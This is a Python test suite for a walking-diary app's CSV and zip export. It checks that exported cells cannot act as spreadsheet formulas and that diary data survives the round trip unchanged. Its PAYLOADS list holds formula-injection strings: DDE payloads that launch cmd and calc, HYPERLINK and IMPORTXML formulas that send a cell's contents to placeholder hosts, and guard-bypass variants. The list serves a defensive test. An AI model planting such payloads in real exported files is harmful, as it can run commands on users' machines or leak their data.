"""Does a diary open in a spreadsheet as it was written, and does nothing in it run?"""

from __future__ import annotations

import csv
import io
import unicodedata
import uuid
import zipfile
from datetime import date, datetime
from random import Random

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from diary.demo import documents as demo_documents
from diary.exchange.spreadsheet import AND, COLUMNS, NAMES, archive, csv_of, harmless
from diary.rules import FIELDS, document_checked
from tests.pure.builders import check_in, on, walk
from tests.pure.documents import MOST_WALKS, document

ZONE = "Europe/London"
DEMO = {
    name: document_checked(whole) for name, whole in demo_documents(date(2026, 4, 20)).items()
}  # fmt: skip
EMPTY = document_checked({"format": "walking-diary", "version": 1})
SEEDED = st.builds(
    lambda seed, walks: document_checked(document(Random(seed), walks)),
    st.integers(0, 2**32),
    st.integers(0, MOST_WALKS),
)
ANY_TEXT = st.text(max_size=60) | st.text("=+-@＝＋－＠−\t\r\n ;,\"'“a1", max_size=12)
some = settings(
    max_examples=30, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck)
)
# What is usually tried: OWASP's list, DDE, links, and the ways around a guard for the first letter.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=cmd|'/C calc.exe'!'A1'",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")', '=IMPORTXML(CONCAT("http://e.org?v=",A1))',
    "=WEBSERVICE(A1)", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=10+20+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
    "\x0b=1+1", '"=1+1', '"" =1+1', "'=1+1", "''=1+1", "“=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", "﹢1", "﹣1", "﹦1", "−1+1", " \t ＝1", "a;=1+1", "a\n=1+1", 'a";=1+1;"',
    'a"\r\n=1+1', "a\t=1+1", "%0A=1+1", "x\r\n;\t'@SUM(1)",
)  # fmt: skip
FORMULA = set("=+-@−")


def diary(walks=(), **other):
    numbered = [{"id": str(uuid.UUID(int=n + 1))} | row for n, row in enumerate(walks)]
    return document_checked(
        {"format": "walking-diary", "version": 1, "walks": numbered, **other}
    )  # fmt: skip


def table(name, whole, zone=ZONE, notes=True):
    """The rows of a file as Python reads them."""
    read = csv.reader(io.StringIO(csv_of(name, whole, zone, notes=notes).decode("utf-8-sig"), ""))
    return [*read]


def rows(name, whole, zone=ZONE, notes=True):
    headers, *found = table(name, whole, zone, notes)
    assert all(len(row) == len(headers) for row in found)
    return [dict(zip(headers, row, strict=True)) for row in found]


def with_words(words):
    """A diary with the same words wherever the walker writes freely, even such as are refused."""
    day = on(1).isoformat()
    whole = diary(
        [walk()],
        check_ins=[check_in()],
        changes=[{"date": day, "kind": "other"}],
        measurements=[{"date": day, "kind": "weight_kg", "value": 70}],
    )
    for name in ("walks", "check_ins", "changes", "measurements"):
        whole[name][0]["notes"] = words
    whole["walks"][0]["footwear"] = words
    return whole


def runs(cell):
    """Whether a cell's first letter that counts makes it a formula; says nothing of numbers."""
    for letter in cell:
        if letter.isspace() or letter == '"' or unicodedata.category(letter) in ("Cf", "Cc"):
            continue
        return unicodedata.normalize("NFKC", letter)[0] in FORMULA
    return False


def split_anew(cell):
    """The cells that a country's spreadsheet might make of one: at semicolons, tabs, line ends."""
    for mark in ";\t\r":
        cell = cell.replace(mark, "\n")
    return cell.split("\n")


# What may not run


def test_the_check_sees_what_runs():
    seen = [payload for payload in PAYLOADS if any(map(runs, split_anew(payload)))]

    # An apostrophe already stands before these, or nothing at all that runs.
    assert set(PAYLOADS) - set(seen) == {
        "'=1+1", "''=1+1", "“=1+1", "%0A=1+1", "x\r\n;\t'@SUM(1)",
    }  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_usual_payload_runs_in_any_cell_of_any_file(payload):
    whole = with_words(payload)

    for name in NAMES:
        for row in table(name, whole):
            for cell in row:
                assert not any(map(runs, split_anew(cell)))
                assert not cell or cell[0] not in "\t\r\n"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_still_readable(payload):
    (row,) = rows("walks", with_words(payload))
    readable = payload.replace("\x00", "").replace("\x0b", "")

    assert row["notes"].replace("'", "") == readable.replace("'", "")
    assert row["footwear"] == row["notes"]


@some
@given(words=ANY_TEXT)
@example(words="a\n\n- left\n- right")
def test_no_words_run_in_any_cell(words):
    cell = harmless(words)

    assert not any(map(runs, split_anew(cell)))
    assert not cell or cell[0] not in "\t\r\n"


@some
@given(first=ANY_TEXT, second=ANY_TEXT)
@example(first="=1", second="'=1")
@example(first="a;=1", second="a;'=1")
@example(first="\ta", second="'\ta")
def test_two_texts_stay_two(first, second):
    shown = ["".join(filter(_kept, words)) for words in (first, second)]

    assert (harmless(first) == harmless(second)) is (shown[0] == shown[1])
    again = harmless(harmless(first))
    assert (again == harmless(first)) is (harmless(first) == shown[0])


def _kept(letter):
    return letter in "\t\r\n" or unicodedata.category(letter) not in ("Cc", "Cs")


@pytest.mark.parametrize(
    ("words", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  =1", "'  =1"),
        ("'=1", "''=1"),
        ("\tx", "'\tx"),
        ("a;=1", "a;'=1"),
        ("a\n\n- left", "a\n\n'- left"),
        ("a = 1 - 2, café", "a = 1 - 2, café"),
        ("'quoted' & \"so\"", "'quoted' & \"so\""),
        ("first\r\nsecond; third", "first\r\nsecond; third"),
        ("a\x00b\x07c\x85d\x1be", "abcde"),
        ("", ""),
    ],
)
def test_words_are_changed_as_little_as_that(words, cell):
    assert harmless(words) == cell


# What comes back


@some
@given(words=st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=40))
@example(words='a "quoted" line, and; another')
@example(words="one\r\ntwo\rthree\nfour")
def test_words_come_back_through_pythons_csv(words):
    words = f"a{words}"
    whole = with_words(words)
    expected = harmless(words)

    for name in ("walks", "check_ins", "changes", "measurements"):
        assert rows(name, whole)[0]["notes"] == expected
    if not any(mark in words for mark in ";\t\r\n"):
        assert expected == words


@some
@given(whole=SEEDED)
def test_every_value_comes_back(whole):
    walks = sorted(whole["walks"], key=lambda row: (row["started_at"], row["id"]))
    read = rows("walks", whole)

    assert [row["id"] for row in read] == [row["id"] for row in walks]
    for row, walked in zip(read, walks, strict=True):
        _same(row, walked, "walk", {"id", "started_at", "time_zone", "pain", "track"})
        assert "track" not in row
        assert row["pains"] == (
            "" if walked["pain"] is None else str(len(walked["pain"]) or "none")
        )
        first = {name.removeprefix("first_pain_"): cell for name, cell in row.items()}
        _same(first, (walked["pain"] or [dict.fromkeys(FIELDS["pain"])])[0], "pain")
    pains = [pain for walked in walks for pain in walked["pain"] or ()]
    for row, pain in zip(rows("pains", whole), pains, strict=True):
        _same(row, pain, "pain")
    for name in ("check_ins", "changes", "measurements"):
        days = sorted(row["date"] for row in whole[name])
        assert [row["date"] for row in rows(name, whole)] == [day.isoformat() for day in days]
    by_day = {row["date"].isoformat(): row for row in whole["check_ins"]}
    for row in rows("check_ins", whole):
        _same(row, by_day[row["date"]], "check_in")


def _same(row, kept, shape, but=()):
    """The cells of a row say what the document says, each sort of value in its own way."""
    for field in set(FIELDS[shape]) - set(but):
        cell, value = row.get(field, row.get(f"{field}_0_to_10")), kept[field]
        if value is None or value == "":
            assert cell == "", field
        elif isinstance(value, bool):
            assert cell == ("yes" if value else "no"), field
        elif isinstance(value, int | float):
            assert float(cell) == value, field
        elif isinstance(value, list):
            assert (cell.split(AND) if cell != "none" else []) == value, field
        else:
            assert cell == str(value), field


def test_the_first_pain_of_a_walk_is_the_one_that_came_first_and_not_the_one_typed_first():
    pain = [
        {"site": "calf", "onset_distance_m": 300},
        {"site": "buttock", "onset_distance_m": 100},
        {"site": "foot"},
    ]
    read = rows("walks", diary([walk(0, pain=pain), walk(1, pain=[pain[2], pain[0]])]))
    assert [row["first_pain_site"] for row in read] == ["buttock", "foot"]


def test_missing_none_and_zero_are_three_cells():
    said = {"intensity": 0, "qualities": [], "relief": "none"}
    read = rows(
        "walks", diary([walk(0, pain=None), walk(1), walk(2, pain=[{}]), walk(3, pain=[said])])
    )

    assert [row["pains"] for row in read] == ["", "none", "1", "1"]
    assert [row["first_pain_intensity_0_to_10"] for row in read] == ["", "", "", "0"]
    assert [row["first_pain_qualities"] for row in read] == ["", "", "", "none"]
    days = rows("check_ins", diary(check_ins=[check_in(0), check_in(1, signs=[], pain_at_rest=0)]))
    assert [(row["signs"], row["pain_at_rest_0_to_10"]) for row in days] == [
        ("", ""),
        ("none", "0"),
    ]


def test_numbers_stay_numbers():
    day = on(1).isoformat()
    kinds = {"ankle_brachial_index_left": 0.62, "weight_kg": 70.0, "six_minute_walk_m": 0}
    whole = diary(
        measurements=[{"date": day, "kind": kind, "value": value} for kind, value in kinds.items()]
    )
    written = csv_of("measurements", whole, ZONE).decode("utf-8-sig")
    read = {row["kind"]: (row["value"], row["unit"]) for row in rows("measurements", whole)}

    assert read == {
        "ankle_brachial_index_left": ("0.62", "ratio"), "weight_kg": ("70", "kg"),
        "six_minute_walk_m": ("0", "m"),
    }  # fmt: skip
    assert ",0.62,ratio" in written  # no quotes and no apostrophe
    whole["measurements"][0]["value"] = -0.5
    assert {row["value"] for row in rows("measurements", whole)} == {"-0.5", "70", "0"}


# Times, columns, order


def test_a_start_is_told_by_the_walkers_clock_and_in_utc():
    starts = [
        walk(started_at="2026-07-01T22:30:00Z", time_zone="Europe/Ljubljana"),
        walk(started_at="2026-07-02T12:00:00.5+02:00", time_zone=None),
    ]
    own, other = rows("walks", diary(starts), zone="America/New_York")

    assert (own["started_at_local"], own["time_zone"], own["started_at_utc"]) == (
        "2026-07-02 00:30:00", "Europe/Ljubljana", "2026-07-01T22:30:00Z",
    )  # fmt: skip
    assert (other["started_at_local"], other["time_zone"], other["started_at_utc"]) == (
        "2026-07-02 06:00:00", "America/New_York", "2026-07-02T10:00:00.500000Z",
    )  # fmt: skip
    assert datetime.fromisoformat(own["started_at_local"]).tzinfo is None


def test_the_columns_are_these_in_this_order():
    assert table("walks", EMPTY) == [
        [
            "id", "started_at_local", "time_zone", "started_at_utc", "activity", "distance_m",
            "distance_source", "duration_s", "ascent_m", "terrain", "pace", "footwear",
            "stretched_before", "stretched_after", "walking_aid", "pain_on_standing",
            "clock_suspect", "pains", "first_pain_onset_distance_m", "first_pain_onset_s",
            "first_pain_onset", "first_pain_site", "first_pain_side", "first_pain_spread_to",
            "first_pain_intensity_0_to_10", "first_pain_qualities", "first_pain_response",
            "first_pain_stopped_distance_m", "first_pain_course_while_walking",
            "first_pain_rest_posture", "first_pain_relief", "first_pain_relief_s",
            "first_pain_rest_s", "first_pain_resumed", "notes",
        ]
    ]  # fmt: skip
    assert table("pains", EMPTY) == [
        [
            "walk_id", "started_at_local", "time_zone", "started_at_utc", "pain",
            "onset_distance_m", "onset_s", "onset", "site", "side", "spread_to",
            "intensity_0_to_10", "qualities", "response", "stopped_distance_m",
            "course_while_walking", "rest_posture", "relief", "relief_s", "rest_s", "resumed",
        ]
    ]  # fmt: skip
    assert table("check_ins", EMPTY) == [
        [
            "date", "pain_at_rest_0_to_10", "night_pain", "morning_stiffness_s", "side", "signs",
            "sites", "signs_began", "notes",
        ]
    ]  # fmt: skip
    assert table("changes", EMPTY) == [["id", "date", "until", "kind", "notes"]]
    assert table("measurements", EMPTY) == [["id", "date", "kind", "value", "unit", "notes"]]


def test_no_field_of_the_rules_is_left_out():
    for name, shape in (("check_ins", "check_in"), ("changes", "change"), ("pains", "pain")):
        headers = {header.removesuffix("_0_to_10") for header in COLUMNS[name]}
        assert set(FIELDS[shape]) <= headers


@pytest.mark.parametrize("name", NAMES)
def test_notes_are_told_only_where_they_are_asked_for(name):
    whole = with_words("canary-4f1c")
    silent = csv_of(name, {**whole, "walks": [{**whole["walks"][0], "footwear": None}]}, ZONE)

    assert b"canary" not in silent
    assert b"notes" not in silent
    if name != "pains":
        assert table(name, whole, notes=True)[0][-1] == "notes"
        assert table(name, whole, notes=True)[1][-1] == "canary-4f1c"


def test_excel_is_told_that_it_is_utf_8():
    data = csv_of("walks", with_words("café"), ZONE, notes=True)

    assert data.startswith(b"\xef\xbb\xbfid,")
    assert "café".encode() in data
    assert data.endswith(b"\r\n")


def test_an_unknown_list_is_none():
    with pytest.raises(KeyError):
        csv_of("profile", EMPTY, ZONE)


@some
@given(whole=SEEDED, seed=st.integers(0, 99))
def test_the_same_diary_gives_the_same_bytes_in_whatever_order_its_rows_come(whole, seed):
    shuffled = {
        name: Random(seed).sample(each, len(each)) if isinstance(each, list) else each
        for name, each in whole.items()
    }

    assert archive(whole, ZONE, "about") == archive(shuffled, ZONE, "about")


# The zip


@pytest.mark.parametrize("notes", [False, True])
@pytest.mark.parametrize("name", DEMO)
def test_the_archive_holds_every_list_and_what_it_is(name, notes):
    with zipfile.ZipFile(io.BytesIO(archive(DEMO[name], ZONE, "About: café\n", notes=notes))) as z:
        assert z.testzip() is None
        assert z.namelist() == ["README.txt", *(f"{each}.csv" for each in NAMES)]
        assert z.read("README.txt").decode() == "About: café\n"
        for each in NAMES:
            assert z.read(f"{each}.csv") == csv_of(each, DEMO[name], ZONE, notes=notes)
        assert {entry.date_time for entry in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert len(rows("walks", DEMO[name])) == len(DEMO[name]["walks"])


def test_the_archive_of_an_empty_diary_is_headers_alone():
    with zipfile.ZipFile(io.BytesIO(archive(EMPTY, ZONE, ""))) as z:
        assert [z.read(f"{name}.csv").count(b"\n") for name in NAMES] == [1] * 5


def test_the_archive_does_not_hang_on_the_day_it_is_made(monkeypatch):
    first = archive(DEMO["nina"], ZONE, "about")
    monkeypatch.setattr("time.localtime", lambda *_: (2031, 5, 6, 7, 8, 9, 0, 0, 0))

    assert archive(DEMO["nina"], ZONE, "about") == first
